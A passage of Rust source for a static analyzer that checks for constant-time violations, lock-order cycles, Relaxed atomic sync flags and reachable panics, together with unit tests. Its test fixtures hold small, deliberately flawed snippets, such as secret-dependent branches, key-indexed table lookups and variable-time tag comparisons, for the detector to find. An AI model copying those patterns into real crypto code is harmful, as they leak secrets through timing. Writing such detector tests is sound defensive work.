    use crate::rules::{annotate, scan_tokens, FileContext};
    use crate::summary::summarize;

    fn facts(crate_name: &str, rel_path: &str, src: &str) -> FileFacts {
        let ann = annotate(tokenize(src));
        let file_name = rel_path.rsplit('/').next().unwrap_or(rel_path);
        let ctx = FileContext { crate_name, rel_path, file_name };
        let (findings, accesses) = scan_tokens(&ctx, &ann);
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: rel_path.to_string(),
            summary: summarize(&ann),
            findings,
            accesses,
        }
    }

    fn ids(findings: &[Finding]) -> Vec<(&'static str, &str)> {
        findings.iter().map(|f| (f.rule.id(), f.function.as_str())).collect()
    }

    #[test]
    fn r10_direct_if_match_while() {
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "fn b1(key: &[u8]) -> u8 { if key[0] > 7 { 1 } else { 0 } }\n\
             fn b2(nonce_tag: &[u8]) -> u8 { match nonce_tag[0] { 0 => 1, _ => 0 } }\n\
             fn b3(mac: &[u8]) -> u8 { let m = mac[0]; let mut x = 0; while m > x { x += 1; } x }",
        )]);
        assert_eq!(
            ids(&out),
            vec![("R10", "b1"), ("R10", "b2"), ("R10", "b3")]
        );
    }

    #[test]
    fn r10_one_hop_through_branching_callee() {
        // `k` is neutral-named, so `choose` itself is silent; the caller
        // passing tainted `key` into the branched parameter is flagged.
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "fn choose(k: u8, x: u8) -> u8 { if k > x { 1 } else { 0 } }\n\
             fn hop(key: &[u8]) -> u8 { let k0 = key[0]; choose(k0, 3) }",
        )]);
        assert_eq!(ids(&out), vec![("R10", "hop")]);
        assert!(out[0].detail.contains("choose"));
    }

    #[test]
    fn r10_negatives_projections_calls_and_public_data() {
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "fn eq(a: &[u8], b: &[u8]) -> bool { a.len() == b.len() }\n\
             fn n1(key: &[u8]) -> u8 { if key.len() < 32 { 1 } else { 0 } }\n\
             fn n2(tag: &[u8], expect: &[u8]) -> u8 { if eq(tag, expect) { 1 } else { 0 } }\n\
             fn n3(i: usize, n: usize) -> u8 { if i < n { 1 } else { 0 } }",
        )]);
        assert!(out.is_empty(), "unexpected: {out:?}");
    }

    #[test]
    fn r11_tainted_index_flagged_public_index_not() {
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "const T: [u8; 256] = [0; 256];\n\
             fn lookup(key: &[u8]) -> u8 { T[key[0] as usize] }\n\
             fn public(i: usize) -> u8 { T[i & 0xff] }\n\
             fn base_only(key: &[u8]) -> u8 { key[0] }",
        )]);
        assert_eq!(ids(&out), vec![("R11", "lookup")]);
    }

    #[test]
    fn r12_div_mod_and_typed_eq() {
        let out = run(&[facts(
            "netsec",
            "crates/netsec/src/hs.rs",
            "pub struct SessionSecret(u64);\n\
             fn d(key: &[u8]) -> u8 { key[0] / 3 }\n\
             fn m(mac: &[u8]) -> u8 { mac[1] % 5 }\n\
             fn e(s: &SessionSecret, o: &SessionSecret) -> bool { s == o }",
        )]);
        assert_eq!(ids(&out), vec![("R12", "d"), ("R12", "m"), ("R12", "e")]);
    }

    #[test]
    fn r12_leaves_secret_named_compares_to_r2() {
        // `tag == other` in crypto is R2's finding; R12 must not
        // double-report it.
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "fn v(tag: &[u8], other: &[u8]) -> bool { tag == other }",
        )]);
        assert!(out.iter().all(|f| f.rule != Rule::R12VariableTimeOp));
    }

    #[test]
    fn ct_eq_file_is_exempt() {
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/ct.rs",
            "pub fn eq(tag: &[u8], other_tag: &[u8]) -> bool {\n\
                 if tag.len() != other_tag.len() { return false; }\n\
                 let mut d = 0u8; for i in 0..tag.len() { d |= tag[i] ^ other_tag[i]; } d == 0 }",
        )]);
        assert!(out.is_empty(), "ct.rs must be exempt: {out:?}");
    }

    #[test]
    fn len_projections_never_taint_ops() {
        let out = run(&[facts(
            "crypto",
            "crates/crypto/src/kx.rs",
            "fn halves(key: &[u8]) -> usize { key.len() / 2 }\n\
             fn wrap(key: &[u8], i: usize) -> usize { i % 4 }",
        )]);
        assert!(out.is_empty(), "unexpected: {out:?}");
    }
}
