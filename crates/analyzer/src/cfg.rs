//! Intraprocedural control-flow scoping for guard sites (v4).
//!
//! The v1–v3 engine treated a guard as *flat*: any `buf.len()` mention
//! earlier in the same function blessed every later `buf[i]`. That shape
//! has a classic false negative — `if i < buf.len() { buf[i] } else {
//! buf[i] }` discharges both arms — and an equally classic false
//! positive — rejecting the check-and-bail idiom `if buf.len() < 16 {
//! return Err(..); } ... buf[i]` would flood real parsers.
//!
//! This module computes a lexical **dominance scope** for every guard
//! site over the token stream, branch/loop/early-return aware:
//!
//! * a guard inside an `if`/`while` **condition** scopes to the branch
//!   body it dominates — accesses in the `else` arm or after the
//!   statement are *not* covered;
//! * unless the body **diverges** (a top-level `return`, `break`,
//!   `continue` or panic-family macro), in which case surviving past the
//!   statement implies the guard held, and the scope extends to the end
//!   of the enclosing block (the check-and-bail idiom);
//! * a **statement-level** guard (`let n = buf.len();`) scopes from its
//!   site to the end of the innermost enclosing block — it dominates
//!   exactly the suffix of that block, not sibling branches.
//!
//! [`crate::rules::Annotated::guarded_before`] consults these scopes, so
//! every flat-guard consumer (R4/R5 discharge, the summary guard bits
//! feeding interprocedural R5/R9 discharge, and the R16 panic-freedom
//! closure) upgrades to per-path reasoning through one choke point.
//!
//! The scopes are lexical over tokens, not a full CFG: `match` guards
//! and `&&`-chained conditions degrade to statement-level scoping
//! (sound direction: narrower, never wider than v3 semantics except for
//! the documented divergence extension).

use crate::lexer::Token;

/// The token-index range a single guard site dominates.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GuardScope {
    /// Guarded variable.
    pub var: String,
    /// Code index of the guard site itself.
    pub pos: usize,
    /// First dominated code index (inclusive).
    pub start: usize,
    /// One past the last dominated code index (exclusive).
    pub end: usize,
}

impl GuardScope {
    /// Does this scope dominate code index `i`?
    pub fn covers(&self, i: usize) -> bool {
        self.start <= i && i < self.end
    }
}

/// One `if`/`while` statement: condition extent, body extent, and
/// whether the body unconditionally leaves the enclosing block.
struct Branch {
    /// First code index of the condition (after the keyword).
    cond_lo: usize,
    /// Code index of the body-opening `{` (condition is `cond_lo..brace`).
    brace: usize,
    /// First code index of the body.
    body_lo: usize,
    /// Code index of the body-closing `}`.
    body_hi: usize,
    /// Body ends in a top-level `return`/`break`/`continue`/panic macro.
    diverges: bool,
}

/// Computes the dominance scope of every guard site in `guards`
/// (pairs of `(code index, variable)` as recorded by
/// [`crate::rules::annotate`]).
pub fn compute_scopes(code: &[Token], guards: &[(usize, String)]) -> Vec<GuardScope> {
    let branches = collect_branches(code);
    guards
        .iter()
        .map(|&(pos, ref var)| {
            // Innermost branch whose *condition* contains the guard.
            let owner = branches
                .iter()
                .filter(|b| b.cond_lo <= pos && pos < b.brace)
                .max_by_key(|b| b.cond_lo);
            let (start, end) = match owner {
                Some(b) if b.diverges => {
                    // Check-and-bail: inside the body the condition held,
                    // and surviving past it means the (negated) test
                    // passed — either way `var` was bounds-checked, so
                    // the scope runs to the end of the enclosing block.
                    // (resume the walk *after* the body's own `}`, or
                    // it would close the scope at the body itself)
                    (b.body_lo, enclosing_block_end(code, b.body_hi + 1))
                }
                Some(b) => (b.body_lo, b.body_hi),
                None => (pos, enclosing_block_end(code, pos)),
            };
            GuardScope { var: var.clone(), pos, start, end }
        })
        .collect()
}

/// Every `if`/`while` statement in the stream, with divergence marks.
fn collect_branches(code: &[Token]) -> Vec<Branch> {
    let mut out = Vec::new();
    for (i, t) in code.iter().enumerate() {
        if t.text != "if" && t.text != "while" {
            continue;
        }
        // Condition runs to the first `{` at bracket depth 0. `(`/`[`
        // nesting is tracked so `if f(a[i]) {` finds the right brace;
        // unparenthesised struct literals are not legal in conditions.
        let cond_lo = i + 1;
        let mut j = cond_lo;
        let mut nest = 0i64;
        let brace = loop {
            match code.get(j).map(|t| t.text.as_str()) {
                Some("(") | Some("[") => nest += 1,
                Some(")") | Some("]") => nest -= 1,
                Some("{") if nest == 0 => break j,
                Some(_) => {}
                None => break j,
            }
            j += 1;
        };
        if brace >= code.len() {
            continue;
        }
        let body_lo = brace + 1;
        let mut depth = 1usize;
        let mut k = body_lo;
        let mut diverges = false;
        while k < code.len() && depth > 0 {
            match code[k].text.as_str() {
                "{" => depth += 1,
                "}" => depth -= 1,
                "return" | "break" | "continue" if depth == 1 => diverges = true,
                s if depth == 1
                    && crate::rules::PANIC_MACROS.contains(&s)
                    && code.get(k + 1).map(|t| t.text.as_str()) == Some("!") =>
                {
                    diverges = true;
                }
                _ => {}
            }
            k += 1;
        }
        let body_hi = k.saturating_sub(1);
        out.push(Branch { cond_lo, brace, body_lo, body_hi, diverges });
    }
    out
}

/// Code index of the `}` closing the innermost block containing `i`
/// (`code.len()` when `i` sits at the top level of the function body
/// whose brace closes the stream, or outside any block).
pub(crate) fn enclosing_block_end(code: &[Token], i: usize) -> usize {
    let mut depth = 0i64;
    for (j, t) in code.iter().enumerate().skip(i) {
        match t.text.as_str() {
            "{" => depth += 1,
            "}" => {
                if depth == 0 {
                    return j;
                }
                depth -= 1;
            }
            _ => {}
        }
    }
    code.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;

    fn scopes_for(src: &str) -> (Vec<Token>, Vec<GuardScope>) {
        let ann = annotate(tokenize(src));
        let scopes = compute_scopes(&ann.code, &ann.guards);
        (ann.code, scopes)
    }

    fn idx_of(code: &[Token], nth: usize, text: &str) -> usize {
        code.iter()
            .enumerate()
            .filter(|(_, t)| t.text == text)
            .nth(nth)
            .map(|(i, _)| i)
            .unwrap_or_else(|| panic!("token {text:?} #{nth} not found"))
    }

    #[test]
    fn condition_guard_scopes_to_then_body_only() {
        // The v3 false negative: only one branch checks. The guard in
        // the condition must cover the then-arm and nothing else.
        let src = "fn f(buf: &[u8], i: usize) -> u8 { if i < buf.len() { buf[i] } else { buf[i] } }";
        let (code, scopes) = scopes_for(src);
        let then_use = idx_of(&code, 1, "buf"); // condition buf.len()
        let _ = then_use;
        // `buf` appears: params, condition, then-arm, else-arm.
        let then_arm = idx_of(&code, 2, "buf");
        let else_arm = idx_of(&code, 3, "buf");
        let buf_scope = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(buf_scope.covers(then_arm), "then-arm must be dominated");
        assert!(!buf_scope.covers(else_arm), "else-arm must NOT be dominated");
        // The comparison also guards `i`, with the same scope shape.
        let i_scope = scopes.iter().find(|s| s.var == "i").expect("i guard");
        assert!(i_scope.covers(then_arm) && !i_scope.covers(else_arm));
    }

    #[test]
    fn diverging_body_extends_scope_to_enclosing_block() {
        // Check-and-bail: the guard must cover the access after the if.
        let src = "fn f(buf: &[u8], i: usize) -> u8 { if buf.len() < 16 { return 0; } buf[i] }";
        let (code, scopes) = scopes_for(src);
        let after = idx_of(&code, 2, "buf");
        let s = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(s.covers(after), "access after a diverging check must be dominated");
    }

    #[test]
    fn panic_macro_body_counts_as_diverging() {
        let src = "fn f(buf: &[u8], i: usize) -> u8 { if i >= buf.len() { panic!(\"oob\"); } buf[i] }";
        let (code, scopes) = scopes_for(src);
        let after = idx_of(&code, 2, "buf");
        let s = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(s.covers(after));
    }

    #[test]
    fn statement_guard_scopes_to_rest_of_block() {
        let src = "fn f(buf: &[u8]) { let n = buf.len(); for i in 0..n { buf[i]; } }";
        let (code, scopes) = scopes_for(src);
        let in_loop = idx_of(&code, 2, "buf");
        let s = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(s.covers(in_loop), "statement guard covers the rest of its block");
    }

    #[test]
    fn statement_guard_inside_branch_does_not_leak_out() {
        // A guard recorded inside one arm must not bless accesses after
        // the statement (the flat engine got this wrong too).
        let src =
            "fn f(buf: &[u8], i: usize, c: bool) -> u8 { if c { let n = buf.len(); } buf[i] }";
        let (code, scopes) = scopes_for(src);
        let after = idx_of(&code, 2, "buf");
        let s = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(!s.covers(after), "guard inside a branch body must stay in that body");
    }

    #[test]
    fn while_condition_guard_covers_loop_body() {
        let src = "fn f(buf: &[u8], i: usize) { while i < buf.len() { buf[i]; } }";
        let (code, scopes) = scopes_for(src);
        let in_body = idx_of(&code, 2, "buf");
        let s = scopes.iter().find(|s| s.var == "buf").expect("buf guard");
        assert!(s.covers(in_body));
    }

    #[test]
    fn enclosing_block_end_walks_nested_blocks() {
        let src = "fn f() { { a; } b; }";
        let ann = annotate(tokenize(src));
        let a = idx_of(&ann.code, 0, "a");
        let b = idx_of(&ann.code, 0, "b");
        let inner_close = enclosing_block_end(&ann.code, a);
        assert!(ann.code[inner_close].text == "}");
        assert!(inner_close < b, "inner block closes before b");
        let outer_close = enclosing_block_end(&ann.code, b);
        assert!(outer_close > b && ann.code[outer_close].text == "}");
    }
}
