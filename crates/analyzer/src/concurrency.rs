//! Concurrency discipline pass: rules R13–R14.
//!
//! PR 5 made the fleet engine genuinely multi-threaded (`std::thread`
//! shards over `Mutex`-held state), which buys the analyzer two new
//! failure classes to watch:
//!
//! * **R13 — lock-order cycles.** Each function contributes edges to a
//!   workspace *lock-acquisition graph*: acquiring `b` while a guard on
//!   `a` is live adds `a → b`, and calling `f()` while holding `a` adds
//!   `a → L` for every lock `L` that `f` (transitively) acquires — the
//!   held-call edges come from the same unique-resolution call graph
//!   the dataflow pass uses. Any cycle in that graph is a potential
//!   deadlock: two threads entering the cycle from different corners
//!   block each other forever. Every *acquisition site* that lies on a
//!   cycle is reported, so the fix (a canonical lock order, or a
//!   narrower guard scope) is pointed at directly.
//! * **R14 — `Ordering::Relaxed` on a sync flag.** `Relaxed` is correct
//!   for pure counters (telemetry increments, stats), but the moment
//!   *any* function reads an atomic in a control-flow condition, that
//!   atomic is a synchronisation flag and `Relaxed` accesses to it stop
//!   being publish/observe fences. The pass collects every atomic read
//!   whose call sits inside a branch condition (`in_cond`), then flags
//!   every `Relaxed` access — load *or* store — to those variables.
//!   Atomics identified per `(crate, variable)`, so a `dropped` counter
//!   in telemetry cannot contaminate an unrelated `dropped` flag
//!   elsewhere.
//!
//! Guard scopes are tracked lexically in [`crate::summary`]: a guard
//! dies at the end of its enclosing block or at an explicit
//! `drop(guard)`, so the drop-then-lock idiom produces no edge. Only
//! `let`-bound no-argument `.lock()`/`.read()`/`.write()` calls count
//! as acquisitions — LUKS-volume `vol.lock();` statements and ordinary
//! I/O `read(buf)` calls do not.

use std::collections::{BTreeMap, BTreeSet};

use crate::callgraph::{CallGraph, FileFacts, FnId};
use crate::rules::{Finding, Rule};

/// One provenance-carrying lock-order edge: `from → to`, recorded where
/// it was induced.
struct Edge {
    from: String,
    to: String,
    file: usize,
    function: String,
    line: u32,
    /// `Some(callee)` when the edge comes from a call made under lock.
    via: Option<String>,
}

/// Runs R13–R14 over the workspace facts. Deterministic: files, functions
/// and recorded facts are iterated in input order.
pub fn run(files: &[FileFacts]) -> Vec<Finding> {
    let graph = CallGraph::build(files);
    let mut findings = lock_order_cycles(files, &graph);
    findings.extend(relaxed_sync_flags(files));
    findings
}

fn lock_order_cycles(files: &[FileFacts], graph: &CallGraph<'_>) -> Vec<Finding> {
    // Transitive lock set per function: own acquisitions plus everything
    // uniquely-resolved callees acquire, to a fixpoint.
    let mut acquired: BTreeMap<FnId, BTreeSet<String>> = BTreeMap::new();
    for (fi, file) in files.iter().enumerate() {
        for (ni, f) in file.summary.functions.iter().enumerate() {
            acquired.insert(
                (fi, ni),
                f.locks.iter().map(|l| l.name.clone()).collect(),
            );
        }
    }
    for _ in 0..64 {
        let mut changed = false;
        for (fi, file) in files.iter().enumerate() {
            for (ni, f) in file.summary.functions.iter().enumerate() {
                let mut grown: BTreeSet<String> = BTreeSet::new();
                for call in &f.calls {
                    if let Some(callee) = graph.resolve_unique(&call.callee) {
                        if callee != (fi, ni) {
                            if let Some(set) = acquired.get(&callee) {
                                grown.extend(set.iter().cloned());
                            }
                        }
                    }
                }
                if let Some(own) = acquired.get_mut(&(fi, ni)) {
                    for lock in grown {
                        if own.insert(lock) {
                            changed = true;
                        }
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }

    // Edges with provenance: direct nested acquisitions, then calls made
    // under a live guard into functions that acquire.
    let mut edges: Vec<Edge> = Vec::new();
    for (fi, file) in files.iter().enumerate() {
        for (ni, f) in file.summary.functions.iter().enumerate() {
            for pair in &f.lock_pairs {
                edges.push(Edge {
                    from: pair.first.clone(),
                    to: pair.second.clone(),
                    file: fi,
                    function: f.name.clone(),
                    line: pair.line,
                    via: None,
                });
            }
            for hc in &f.held_calls {
                let Some(callee) = graph.resolve_unique(&hc.callee) else {
                    continue;
                };
                if callee == (fi, ni) {
                    continue;
                }
                for lock in acquired.get(&callee).into_iter().flatten() {
                    if *lock != hc.lock {
                        edges.push(Edge {
                            from: hc.lock.clone(),
                            to: lock.clone(),
                            file: fi,
                            function: f.name.clone(),
                            line: hc.line,
                            via: Some(hc.callee.clone()),
                        });
                    }
                }
            }
        }
    }

    let mut adjacency: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for e in &edges {
        adjacency.entry(&e.from).or_default().insert(&e.to);
    }

    // An edge a → b sits on a cycle iff a is reachable back from b.
    let mut findings = Vec::new();
    for e in &edges {
        if !reaches(&adjacency, &e.to, &e.from) {
            continue;
        }
        let detail = match &e.via {
            Some(callee) => format!(
                "call to `{callee}` acquires `{}` while `{}` is held, closing a lock-order cycle",
                e.to, e.from
            ),
            None => format!(
                "acquires `{}` while `{}` is held, closing a lock-order cycle",
                e.to, e.from
            ),
        };
        findings.push(Finding {
            rule: Rule::R13LockOrderCycle,
            file: files[e.file].rel_path.clone(),
            line: e.line,
            function: e.function.clone(),
            detail,
            confirmed: Some(true),
        });
    }
    findings
}

/// Is `to` reachable from `from` over the lock-order edges?
fn reaches(adjacency: &BTreeMap<&str, BTreeSet<&str>>, from: &str, to: &str) -> bool {
    let mut seen: BTreeSet<&str> = BTreeSet::new();
    let mut stack: Vec<&str> = vec![from];
    while let Some(node) = stack.pop() {
        if node == to {
            return true;
        }
        if !seen.insert(node) {
            continue;
        }
        if let Some(next) = adjacency.get(node) {
            stack.extend(next.iter().copied());
        }
    }
    false
}

fn relaxed_sync_flags(files: &[FileFacts]) -> Vec<Finding> {
    // Pass 1: which `(crate, atomic)` pairs are ever loaded inside a
    // branch condition anywhere in the workspace?
    let mut sync_flags: BTreeSet<(String, String)> = BTreeSet::new();
    for file in files {
        for f in &file.summary.functions {
            for a in &f.atomics {
                if a.op == "load" && a.in_cond {
                    sync_flags.insert((file.crate_name.clone(), a.var.clone()));
                }
            }
        }
    }

    // Pass 2: every Relaxed access (read or write) to a sync flag.
    let mut findings = Vec::new();
    for file in files {
        for f in &file.summary.functions {
            for a in &f.atomics {
                if a.ordering != "Relaxed" {
                    continue;
                }
                let key = (file.crate_name.clone(), a.var.clone());
                if !sync_flags.contains(&key) {
                    continue;
                }
                findings.push(Finding {
                    rule: Rule::R14RelaxedSyncFlag,
                    file: file.rel_path.clone(),
                    line: a.line,
                    function: f.name.clone(),
                    detail: format!(
                        "`Ordering::Relaxed` {} on `{}`, an atomic read in a branch condition",
                        a.op, a.var
                    ),
                    confirmed: Some(true),
                });
            }
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;
    use crate::summary::summarize;

    fn facts(crate_name: &str, rel_path: &str, src: &str) -> FileFacts {
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: rel_path.to_string(),
            summary: summarize(&annotate(tokenize(src))),
            findings: Vec::new(),
            accesses: Vec::new(),
        }
    }

    fn ids(findings: &[Finding]) -> Vec<(&'static str, &str)> {
        findings.iter().map(|f| (f.rule.id(), f.function.as_str())).collect()
    }

    #[test]
    fn two_lock_cycle_is_flagged_at_both_sites() {
        let out = run(&[facts(
            "core",
            "crates/core/src/sched.rs",
            "fn ab(a_mu: &M, b_mu: &M) { let g1 = a_mu.lock(); let g2 = b_mu.lock(); }\n\
             fn ba(a_mu: &M, b_mu: &M) { let g1 = b_mu.lock(); let g2 = a_mu.lock(); }",
        )]);
        assert_eq!(ids(&out), vec![("R13", "ab"), ("R13", "ba")]);
    }

    #[test]
    fn cycle_through_a_held_call_is_flagged() {
        let out = run(&[facts(
            "core",
            "crates/core/src/sched.rs",
            "fn grab_b(b_mu: &M) { let g = b_mu.lock(); }\n\
             fn ab(a_mu: &M, b_mu: &M) { let g1 = a_mu.lock(); let g2 = b_mu.lock(); }\n\
             fn via(a_mu: &M, b_mu: &M) { let g = b_mu.lock(); helper(a_mu); }\n\
             fn helper(a_mu: &M) { let g = a_mu.lock(); grab_nothing(); }\n\
             fn grab_nothing() {}",
        )]);
        // ab induces a→b; via induces b→a through helper. Both on the cycle.
        assert_eq!(ids(&out), vec![("R13", "ab"), ("R13", "via")]);
        assert!(out[1].detail.contains("`helper`"));
    }

    #[test]
    fn consistent_order_and_dropped_guard_are_clean() {
        let out = run(&[facts(
            "core",
            "crates/core/src/sched.rs",
            "fn one(a_mu: &M, b_mu: &M) { let g1 = a_mu.lock(); let g2 = b_mu.lock(); }\n\
             fn two(a_mu: &M, b_mu: &M) { let g1 = a_mu.lock(); let g2 = b_mu.lock(); }\n\
             fn dropped(c_mu: &M, d_mu: &M) { let g1 = d_mu.lock(); drop(g1); let g2 = c_mu.lock(); let g3 = d_mu.lock(); }\n\
             fn scoped(c_mu: &M, d_mu: &M) { { let g1 = d_mu.lock(); } let g2 = c_mu.lock(); let g3 = d_mu.lock(); }",
        )]);
        assert!(out.is_empty(), "unexpected: {out:?}");
    }

    #[test]
    fn relaxed_on_cond_read_atomic_is_flagged() {
        let out = run(&[facts(
            "core",
            "crates/core/src/flags.rs",
            "fn publish(ready: &AtomicBool) { ready.store(true, Ordering::Relaxed); }\n\
             fn wait(ready: &AtomicBool) { while !ready.load(Ordering::Relaxed) {} }",
        )]);
        assert_eq!(ids(&out), vec![("R14", "publish"), ("R14", "wait")]);
    }

    #[test]
    fn pure_counters_stay_clean() {
        let out = run(&[facts(
            "telemetry",
            "crates/telemetry/src/metrics.rs",
            "fn bump(hits: &AtomicU64) { hits.fetch_add(1, Ordering::Relaxed); }\n\
             fn snapshot(hits: &AtomicU64) -> u64 { hits.load(Ordering::Relaxed) }",
        )]);
        assert!(out.is_empty(), "counters must stay clean: {out:?}");
    }

    #[test]
    fn seqcst_cond_read_does_not_taint_other_crates_counter() {
        // `dropped` is a sync flag in crate a (cond read) but a pure
        // counter in crate b — crate b stays clean.
        let out = run(&[
            facts(
                "a",
                "crates/a/src/lib.rs",
                "fn gate(dropped: &AtomicBool) { if dropped.load(Ordering::SeqCst) { return; } dropped.store(true, Ordering::Relaxed); }",
            ),
            facts(
                "b",
                "crates/b/src/lib.rs",
                "fn count(dropped: &AtomicU64) { dropped.fetch_add(1, Ordering::Relaxed); }",
            ),
        ]);
        assert_eq!(ids(&out), vec![("R14", "gate")]);
    }
}
