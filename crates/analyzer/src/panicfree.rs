//! R16 — panic-freedom certification of the hot-path closure.
//!
//! The paper's availability argument (and Cesarano's fog-hardening
//! work) treats a panic on the data plane as a security defect: one
//! malformed frame aborts the process that terminates every tenant's
//! traffic. This pass certifies the declared hot-path entry points
//! panic-free:
//!
//! 1. seed the walk with every definition of a [`HOT_ENTRIES`] name
//!    (the GCM batch sealers, the fleet engine drivers, the MACsec
//!    batchers, the fleet merge);
//! 2. take the call-graph closure — edges resolve when the callee name
//!    is unique workspace-wide or unique within the caller's crate
//!    ([`crate::callgraph::CallGraph::resolve_from`]), std method names
//!    excluded;
//! 3. flag every reachable [`crate::summary::PanicSite`] whose guard
//!    does not *dominate* it: `unwrap`/`expect` discharge only under an
//!    `is_some`/`is_ok` scope from [`crate::cfg`], panic macros never
//!    discharge, and index sites get the full interprocedural R5
//!    treatment (dominating bounds guard, mask vs. known length, loop
//!    bound vs. allocation, guards at every call site) via
//!    [`crate::dataflow::discharges`].
//!
//! Index sites inside the R5 hot-path file list are skipped here — R5
//! already owns them finding-for-finding; R16's value-add is the rest
//! of the closure, where indexing was previously unchecked.
//!
//! Finding details carry the *entry* name, not the call chain — details
//! are part of the line-free ratchet key, and chains churn on every
//! refactor while entry attribution is stable.

use std::collections::BTreeMap;

use crate::callgraph::{CallGraph, FileFacts, FnId};
use crate::rules::{Access, Finding, Rule};

/// Function names that declare a hot-path entry point, wherever they
/// are defined (the workspace's data-plane surface; fixtures and tests
/// can declare their own by reusing a name).
pub const HOT_ENTRIES: &[&str] = &[
    "merge_shards",
    "open_many",
    "protect_many",
    "run_shards",
    "seal_many",
    "simulate_pon_fleet",
    "validate_many",
];

/// Runs the R16 closure over the summarised workspace.
pub fn run(files: &[FileFacts]) -> Vec<Finding> {
    let graph = CallGraph::build(files);

    // Entry-name attribution: BFS per entry in sorted order, first
    // writer wins — deterministic regardless of file order.
    let mut reach: BTreeMap<FnId, &str> = BTreeMap::new();
    for entry in HOT_ENTRIES {
        let mut queue: Vec<FnId> = graph.defs_of(entry).to_vec();
        while let Some(id) = queue.pop() {
            if reach.contains_key(&id) {
                continue;
            }
            reach.insert(id, entry);
            let crate_name = graph.crate_of(id);
            for call in &graph.function(id).calls {
                if crate::dataflow::STD_METHOD_NAMES.contains(&call.callee.as_str()) {
                    continue;
                }
                if let Some(callee) = graph.resolve_from(&call.callee, crate_name) {
                    queue.push(callee);
                }
            }
        }
    }

    let mut findings = Vec::new();
    for (&(fi, ni), &entry) in &reach {
        let file = &files[fi];
        let fun = &file.summary.functions[ni];
        for site in &fun.panics {
            if site.guarded {
                continue;
            }
            if site.kind == "index" {
                // R5 owns its file list finding-for-finding; and an
                // index R5's interprocedural evidence discharges is
                // equally discharged here.
                if crate::rules::is_r5_file(&file.crate_name, &file.rel_path) {
                    continue;
                }
                if index_discharged(&graph, fi, file, fun, site) {
                    continue;
                }
            }
            findings.push(Finding {
                rule: Rule::R16PanicReachable,
                file: file.rel_path.clone(),
                line: site.line,
                function: fun.name.clone(),
                detail: format!("{} reachable from hot entry `{entry}`", site.detail),
                confirmed: Some(true),
            });
        }
    }
    findings
}

/// Applies the interprocedural R5 discharge arguments to a reachable
/// index site by synthesising the finding/access pair
/// [`crate::dataflow::discharges`] expects.
fn index_discharged(
    graph: &CallGraph<'_>,
    file_idx: usize,
    file: &FileFacts,
    fun: &crate::summary::FnSummary,
    site: &crate::summary::PanicSite,
) -> bool {
    let var = site.var.clone().unwrap_or_default();
    let finding = Finding {
        rule: Rule::R5UnguardedIndex,
        file: file.rel_path.clone(),
        line: site.line,
        function: fun.name.clone(),
        detail: format!("dynamic index into `{var}`"),
        confirmed: None,
    };
    let access = Access {
        function: fun.name.clone(),
        var,
        guarded: site.guarded,
        rule: Rule::R5UnguardedIndex,
        line: site.line,
        masked: site.masked,
        index_ident: site.index_ident.clone(),
        loop_bounds: site.loop_bounds.clone(),
    };
    crate::dataflow::discharges(graph, file_idx, file, &finding, &access)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;

    fn facts(crate_name: &str, rel_path: &str, src: &str) -> FileFacts {
        let ann = annotate(tokenize(src));
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: rel_path.to_string(),
            summary: crate::summary::summarize(&ann),
            findings: Vec::new(),
            accesses: Vec::new(),
        }
    }

    #[test]
    fn unwrap_reachable_through_one_hop_is_flagged() {
        let files = vec![facts(
            "crypto",
            "crates/crypto/src/x.rs",
            "pub fn seal_many(x: Option<u8>) -> u8 { stage(x) }\n\
             fn stage(x: Option<u8>) -> u8 { x.unwrap() }",
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R16PanicReachable);
        assert_eq!(f[0].function, "stage");
        assert!(f[0].detail.contains("`seal_many`"), "{}", f[0].detail);
        assert_eq!(f[0].confirmed, Some(true));
    }

    #[test]
    fn dominated_unwrap_is_discharged() {
        let files = vec![facts(
            "crypto",
            "crates/crypto/src/x.rs",
            "pub fn seal_many(x: Option<u8>) -> u8 { if x.is_some() { x.unwrap() } else { 0 } }",
        )];
        assert!(run(&files).is_empty());
    }

    #[test]
    fn is_some_on_one_branch_only_still_flags_the_other() {
        let files = vec![facts(
            "crypto",
            "crates/crypto/src/x.rs",
            "pub fn seal_many(x: Option<u8>) -> u8 { if x.is_some() { x.unwrap() } else { x.unwrap() } }",
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1, "only the unchecked arm fires");
    }

    #[test]
    fn unreachable_code_is_not_flagged() {
        let files = vec![facts(
            "crypto",
            "crates/crypto/src/x.rs",
            "pub fn cold_path(x: Option<u8>) -> u8 { x.unwrap() }",
        )];
        assert!(run(&files).is_empty(), "no entry reaches cold_path");
    }

    #[test]
    fn panic_macro_in_closure_is_always_flagged() {
        let files = vec![facts(
            "pon",
            "crates/pon/src/engine.rs",
            "pub fn run_shards(n: u8) { if n > 4 { unreachable!(); } }",
        )];
        let f = run(&files);
        assert_eq!(f.len(), 1);
        assert!(f[0].detail.contains("unreachable! macro"));
    }

    #[test]
    fn masked_index_outside_r5_files_is_discharged() {
        let files = vec![facts(
            "core",
            "crates/core/src/f.rs",
            "const T: [u8; 256] = [0; 256];\n\
             pub fn simulate_pon_fleet(x: usize) -> u8 { let t: [u8; 256] = T; t[x & 0xff] }",
        )];
        assert!(run(&files).is_empty(), "mask 0xff < len 256 discharges");
